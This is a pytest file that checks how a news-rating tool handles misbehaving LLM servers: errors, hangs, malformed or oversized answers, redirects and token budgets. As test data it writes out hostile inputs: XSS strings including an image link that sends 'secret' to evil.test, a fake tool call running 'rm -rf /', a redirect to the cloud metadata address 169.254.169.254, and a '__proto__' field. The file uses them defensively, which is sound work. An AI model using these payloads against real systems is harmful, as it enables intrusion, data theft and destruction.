"""Servers that are rude, lie, hang or are gone: nothing comes of it but a line that says so.

The cases are L01 to L22 of the survey that the controls come from. After each the server turns
honest, and every article gets its rating.
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

import pytest

from llm.server import Asked, Script, answer, completion, serving
from llm.world import KEY, World


@dataclass(frozen=True)
class Case:
    name: str
    script: Script
    words: str  # in the line that a person reads
    used: bool = False  # the answers are ratings all the same
    settings: dict[str, Any] = field(default_factory=dict)


def says(content: Any, **changes: Any) -> Script:
    async def script(request: Asked) -> None:
        await request.say(content, **changes)

    return script


def status(line: str, body: bytes = b"{}", more: str = "") -> Script:
    async def script(request: Asked) -> None:
        await request.answer(body, line, more=more)

    return script


async def hang(request: Asked) -> None:
    await asyncio.sleep(60)


async def drip(request: Asked) -> None:
    await request.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n")
    while True:
        await request.send(b'data: {"choices":[{"delta":{"content":"{"}}]}\n\n')
        await asyncio.sleep(0.05)


async def endless(request: Asked) -> None:
    await request.send(b"HTTP/1.1 200 OK\r\n\r\n")
    while True:
        await request.send(b'data: {"choices":[]}\n\n' * 1000)


async def huge(request: Asked) -> None:
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n"
    await request.send(head + b'{"choices":[{"message":{"content":"')
    for _ in range(100):
        await request.send(b"x" * 1_000_000)
    await request.send(b'"}}]}')
    request.writer.close()


async def cut(request: Asked) -> None:
    await request.send(
        b"HTTP/1.1 200 OK\r\nContent-Length: 900\r\n\r\n" + completion(answer())[:80]
    )
    request.writer.close()


NASTY = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>![](http://evil.test/?q=secret) "
    "[here](javascript:alert(3)) \x1b[31mred\x1b[0m \u202egnorw\u2066 see https://evil.test/x "
    "&lt;b&gt; it is over\U000e0041\U000e0042\u200b"
)
DEEP = "[" * 100_000 + "]" * 100_000

CASES = (
    Case("L01 500", status("500 Internal Server Error"), "it returned status 500"),
    Case("L01 502", status("502 Bad Gateway", b"<html>"), "it returned status 502"),
    Case("L01 503", status("503 Service Unavailable", b""), "it returned status 503"),
    Case(
        "L02 429",
        status("429 Too Many", more="Retry-After: 7200\r\n"),
        "it limits the rate of requests",
    ),
    Case("L03 hang", hang, "no response within", settings={"timeout_seconds": 0.3}),
    Case("L04 drip", drip, "no complete response within", settings={"timeout_seconds": 0.8}),
    Case("L05 endless", endless, "larger than"),
    Case(
        "L06 HTML",
        status("200 OK", b"<!doctype html><title>Log in</title>"),
        "the response is not a chat completion",
    ),
    Case("L06 empty", status("200 OK", b""), "the response is not a chat completion"),
    Case(
        "L07 truncated",
        status("200 OK", completion(answer())[:-40]),
        "the response is not a chat completion",
    ),
    Case("L07 cut", cut, "cut off"),
    Case("L08 prose", says(f"Sure! Here it is: {answer()}"), "not one JSON object"),
    Case("L08 after", says(f"{answer()} I hope this helps."), "not one JSON object"),
    Case("L08 fences", says(f"```json\n{answer()}\n```"), "code block"),
    Case("L09 999", says(answer(999)), "not from 1 to 5"),
    Case("L09 zero", says(answer(0)), "not from 1 to 5"),
    Case("L09 NaN", says(answer(float("nan"))), "contains NaN"),
    Case("L09 infinite", says(answer(float("inf"))), "contains Infinity"),
    Case("L09 text", says(answer("5")), "no whole number"),
    Case("L09 half", says(answer(3.5)), "no whole number"),
    Case("L09 true", says(answer(True)), "no whole number"),
    Case("L09 null", says(answer(None)), "no whole number"),
    Case("L09 sure", says(answer(3, "certain")), "none of high"),
    Case("L09 0.9", says(answer(3, 0.9)), "none of high"),
    Case("L09 words", says(answer(3, "high", {"a": 1})), "nested"),
    Case("L09 list", says("[3]"), "not one JSON object"),
    Case("L09 content", says({"score": 3}), "its answer has no text"),
    Case(
        "L10 extra", says(answer()[:-1] + ', "delete": "all"}'), "its answer has unexpected fields"
    ),
    Case(
        "L10 twice",
        says('{"score": 1, "score": 5, ' + answer()[13:]),
        "its answer has duplicate fields",
    ),
    Case(
        "L10 proto", says(answer()[:-1] + ', "__proto__": 1}'), "its answer has unexpected fields"
    ),
    Case("L10 fewer", says('{"score": 3}'), "has no confidence"),
    Case("L11 100 MB", huge, "larger than"),
    Case("L11 deep answer", says('{"score": ' + DEEP[:1500] + "}"), "nested"),
    Case("L11 deep", status("200 OK", DEEP.encode()), "the response is not a chat completion"),
    Case(
        "L12 nasty words",
        says(answer(4, "high", NASTY)),
        "articles rated in the last day",
        used=True,
    ),
    Case("L12 surrogate", says(answer() + "\ud800"), "control characters"),
    Case("L12 NUL", says(answer() + "\x00"), "control characters"),
    Case(
        "L12 surrogate in words",
        says(answer(4, "high", "it is over\ud800\x00")),
        "articles rated in the last day",
        used=True,
    ),
    Case("L13 length", says(answer(), finish="length"), "ended by length"),
    Case("L13 filter", says(answer(), finish="content_filter"), "ended by content_filter"),
    Case("L13 tools", says(answer(), finish="tool_calls"), "ended by tool_calls"),
    Case("L13 odd", says(answer(), finish={"a": [1]}), "ended by"),
    Case(
        "L14 tool call",
        says(None, message={"tool_calls": [{"function": {"name": "rm", "arguments": "-rf /"}}]}),
        "it called a tool, but has none",
    ),
    Case(
        "L15 no usage", says(answer(), usage="absent"), "articles rated in the last day", used=True
    ),
    Case(
        "L15 negative",
        says(answer(), usage={"prompt_tokens": -9, "completion_tokens": -9}),
        "articles rated in the last day",
        used=True,
    ),
    Case(
        "L15 huge",
        says(answer(), usage={"prompt_tokens": 10**30, "completion_tokens": 10**12}),
        "articles rated in the last day",
        used=True,
    ),
    Case(
        "L16 other model", says(answer(), model="gpt-evil"), "reports the model gpt-evil", used=True
    ),
    Case(
        "L17 redirect",
        status("302 Found", more="Location: http://169.254.169.254/latest/\r\n"),
        "not allowed",
    ),
    Case("L19 refuses", says("I'm sorry, I can't help with that."), "not one JSON object"),
    Case("L19 refusal", says(None, message={"refusal": "No."}), "it refused"),
    Case(
        "L20 overflow",
        status("400 Bad Request", b'{"error": {"code": "context_length_exceeded"}}'),
        "the request is too long",
    ),
    Case(
        "the model or the address does not exist",
        status("404 Not Found"),
        "the model or the address does not exist",
    ),
    Case("the API key is wrong", status("401 Unauthorized"), "the API key is wrong"),
    Case(
        "no choices", status("200 OK", b'{"choices": []}'), "the response is not a chat completion"
    ),
    Case("no object", status("200 OK", b'"a"'), "the response is not a chat completion"),
)


async def honest(request: Asked) -> None:
    await request.rate(4, "medium", f"judged: {request.title[:20]}")


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_nothing_comes_of_it_but_a_line_and_it_recovers(six: World, case: Case) -> None:
    world = six
    before = world.untouched()

    async def main() -> None:
        async with serving(case.script) as server:
            await world.ask(server.url, rounds=2, **case.settings)
            line = world.status(server.url)
            assert case.words in line.words
            assert bool(world.ratings()) is case.used
            assert_sound(world)
            if case.used:
                return
            assert not line.well
            asked = len(server.asked)
            await world.ask(server.url, **case.settings)
            assert len(server.asked) == asked, "it rests"
            server.script = honest
            world.now += timedelta(hours=25)
            await world.ask(server.url, rounds=2)
            assert len(world.ratings()) == len(world.ids)
            assert world.status(server.url).well

    asyncio.run(main())
    assert world.untouched() == before
    assert world.score() == len(world.ids)


def assert_sound(world: World) -> None:
    """Every row validated; the key nowhere; what was said is plain text."""
    for rating in world.ratings().values():
        assert rating.rating in {1, 2, 3, 4, 5}
        assert 0 <= rating.confidence <= 1
        assert len(rating.explanation) <= 300
        assert rating.explanation.isprintable()
        for part in ("<", ">", "http", "evil.test", "javascript", "alert(2)", "![", "&"):
            assert part not in rating.explanation
    for table in ("services", "model_calls", "ratings", "makers"):
        assert KEY not in str(world.rows(f"SELECT * FROM {table}"))


def test_the_same_answer_for_every_article_is_told(world: World) -> None:
    """L18: each answer is fine by itself."""
    world.publish(*(f"News {number}" for number in range(32)))

    async def main() -> None:
        async with serving(says(answer(1))) as server:
            await world.ask(server.url, rounds=2)
            line = world.status(server.url)
            assert "gives every article the same rating" in line.words
            assert not line.well

    asyncio.run(main())
    world.score()
    assert set(world.sensitivity().values()) == {1}


def test_a_server_that_is_gone(world: World) -> None:
    world.publish("News")
    asyncio.run(world.ask("http://127.0.0.1:9/v1", rounds=3))
    line = world.status("http://127.0.0.1:9/v1")
    assert "refused the connection" in line.words
    assert not line.well
    assert world.store.models.service("judge at 127.0.0.1:9").tokens == 0


def test_five_failures_rest_it_for_five_minutes(world: World) -> None:
    world.publish(*(f"News {number}" for number in range(8)))

    async def main() -> None:
        async with serving(status("500 Oops")) as server:
            await world.ask(server.url, rounds=5)
            assert len(server.asked) in {5, 6}  # the sixth was under way beside the fifth
            assert "retry in 5 min" in world.status(server.url).words
            world.now += timedelta(minutes=4, seconds=59)
            await world.ask(server.url)
            assert len(server.asked) in {5, 6}
            world.now += timedelta(seconds=2)
            before = len(server.asked)
            await world.ask(server.url)
            assert len(server.asked) == before + 1, "one question tells whether it is back"
            server.script = honest
            world.now += timedelta(minutes=5)
            await world.ask(server.url)
            assert len(world.ratings()) == 8

    asyncio.run(main())


def test_the_rest_outlives_the_process(world: World) -> None:
    world.publish(*(f"News {number}" for number in range(8)))

    async def main() -> None:
        async with serving(status("503 Busy", more="Retry-After: 3600\r\n")) as server:
            await world.ask(server.url)
            before = len(server.asked)
            path = world.path
            world.store.close()
            again = World(path, world.now + timedelta(minutes=59))
            world.store = again.store  # closed by the fixture
            again.ids = world.ids
            await again.ask(server.url)
            assert len(server.asked) == before
            again.now += timedelta(minutes=2)
            server.script = honest
            await again.ask(server.url)
            assert len(again.ratings()) == 8

    asyncio.run(main())


def test_a_failing_answer_is_asked_for_again_within_the_deadline(world: World) -> None:
    world.publish("News")
    answers = iter([status("502 Bad"), status("429 Slow", more="Retry-After: 0\r\n"), honest])

    async def script(request: Asked) -> None:
        await next(answers)(request)

    async def main() -> None:
        async with serving(script) as server:
            report = await world.ask(server.url)
            assert (report.asked, report.stored, len(server.asked)) == (1, 1, 3)

    asyncio.run(main())
    verdicts = [row[0] for row in world.rows("SELECT verdict FROM model_calls ORDER BY id")]
    assert [one.partition(":")[0] for one in verdicts] == ["no answer", "no answer", "ok"]


FORMS = ("json_schema", "json_object with schema", "json_object", "none")


@pytest.mark.parametrize("refusal", ["400 Bad Request", "500 Internal Server Error"])
@pytest.mark.parametrize("known", FORMS)
def test_a_server_that_knows_fewer_forms(world: World, known: str, refusal: str) -> None:
    """llama-cpp-python says 500 to a `response_format` that it does not know."""
    world.publish("One", "Two", "Three")

    async def script(request: Asked) -> None:
        wanted = request.body.get("response_format", {"type": "none"})
        form = wanted["type"] + (" with schema" if "schema" in wanted else "")
        if form != known:
            error = (
                b"{'loc': ('body', 'response_format', 'type'), 'msg': \"Input should be 'text'\"}"
            )
            await request.answer(error, refusal)
        else:
            await request.say("no JSON" if "One" in request.title else answer())

    async def main() -> None:
        async with serving(script) as server:
            report = await world.ask(server.url, concurrency=1)
            assert report.stored == 2
            assert len(server.asked) == 3 + FORMS.index(known), "found out once"

    asyncio.run(main())
    assert world.rows("SELECT max(failures) FROM services")[0][0] <= 1, "the unusable answer"


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("400 Bad Request", "This model's maximum context length is 512 tokens."),
        ("400 Bad Request", "the request exceeds the available context size, try increasing it"),
        ("500 Internal Server Error", "Requested tokens (900) exceed context window of 512"),
        ("413 Too Large", ""),
    ],
)
def test_a_question_that_is_too_long_is_asked_again_cut_shorter(
    world: World, line: str, words: str
) -> None:
    world.bring([("Long", f"<p>{'Many words of news. ' * 500}</p>")])
    sizes: list[int] = []

    async def script(request: Asked) -> None:
        sizes.append(len(request.user))
        if len(request.user) > 1_000:
            await request.answer(words.encode(), line)
        else:
            await honest(request)

    async def main() -> None:
        async with serving(script) as server:
            report = await world.ask(server.url, context_tokens=2_048)
            assert (report.stored, report.problem) == (1, "")

    asyncio.run(main())
    assert sizes == sorted(set(sizes), reverse=True)
    assert world.rows("SELECT failures FROM services")[0][0] == 0


def test_one_article_that_no_context_holds_stops_no_other(world: World) -> None:
    world.publish("Fine", "Far too long", "Fine too")

    async def script(request: Asked) -> None:
        if "too long" in request.title:
            await request.answer(b"{}", "400 Bad Request")
        else:
            await honest(request)

    async def main() -> None:
        async with serving(script) as server:
            await world.ask(server.url, rounds=4, concurrency=1)
            long = [one for one in server.asked if "too long" in one.title]
            assert len(world.ratings()) == 2
            assert len(long) <= 2 * len(FORMS), "twice by each form, and then no more that day"

    asyncio.run(main())


def test_answers_in_another_order_land_where_they_belong(world: World) -> None:
    """L21: one article a question, so nothing can be swapped."""
    world.publish(*(f"{number % 5 + 1} is the rating of {number}" for number in range(10)))
    held: list[Asked] = []
    second = asyncio.Event()

    async def script(request: Asked) -> None:
        held.append(request)
        if len(held) % 2:
            second.clear()
            await second.wait()
        else:
            asyncio.get_running_loop().call_later(0.01, second.set)  # this one answers first
        await request.rate(int(request.title[0]))

    async def main() -> None:
        async with serving(script) as server:
            await world.ask(server.url)

    asyncio.run(main())
    found = world.ratings()
    titles = dict(world.rows("SELECT id, title FROM articles"))
    assert len(found) == 10
    assert all(found[one].rating == int(titles[one][0]) for one in found)


def test_growing_slowness_ends_in_a_rest(world: World) -> None:
    """L22: each answer takes longer than the one before, past the deadline."""
    world.publish(*(f"News {number}" for number in range(20)))
    waits = iter(range(100))

    async def script(request: Asked) -> None:
        await asyncio.sleep(0.1 * next(waits))
        await honest(request)

    async def main() -> None:
        async with serving(script) as server:
            await world.ask(server.url, rounds=12, timeout_seconds=0.6)
            assert 1 < len(world.ratings()) < 20
            assert "within 0.6 seconds" in world.status(server.url).words

    asyncio.run(main())


def test_a_redirect_reaches_nobody(world: World) -> None:
    world.publish("News")

    async def main() -> None:
        async with serving(honest) as canary:
            where = f"Location: {canary.url}/chat/completions\r\n"
            async with serving(status("307 Temporary Redirect", more=where)) as server:
                await world.ask(server.url, rounds=3)
            assert canary.connections == 0

    asyncio.run(main())
    assert not world.ratings()


@pytest.mark.parametrize(
    "usage",
    ["absent", {"prompt_tokens": 0, "completion_tokens": 0}, {"prompt_tokens": 10**9}],
    ids=["absent", "nothing", "more than all"],
)
def test_the_daily_budget_holds_whatever_the_server_says(world: World, usage: Any) -> None:
    world.publish(*(f"News {number}" for number in range(20)))

    async def main() -> None:
        async with serving(says(answer(), usage=usage)) as server:
            report = await world.ask(server.url, rounds=3, daily_tokens=5_000)
            spent = world.store.models.service(f"judge at 127.0.0.1:{server.port}").tokens
            assert 0 < spent <= 5_000
            assert 3 <= len(server.asked) < 12
            assert "tokens per day is used up" in report.problem
            status = world.status(server.url, daily_tokens=5_000)
            assert status.spent, "so that `run` says it"
            assert "the built-in model is used until midnight UTC" in status.words
            world.now += timedelta(days=1)
            await world.ask(server.url, daily_tokens=5_000)
            assert len(server.asked) > 3

    asyncio.run(main())


def test_an_article_that_changed_while_it_was_asked_about_keeps_no_rating(world: World) -> None:
    world.publish("News")

    async def script(request: Asked) -> None:
        with world.store.database.write() as connection:
            connection.exec_driver_sql("UPDATE texts SET digest = digest + 1")
        await honest(request)

    async def main() -> None:
        async with serving(script) as server:
            report = await world.ask(server.url)
            assert (report.asked, report.stored) == (1, 0)
            assert not world.ratings()
            server.script = honest
            await world.ask(server.url)
            assert len(world.ratings()) == 1

    asyncio.run(main())
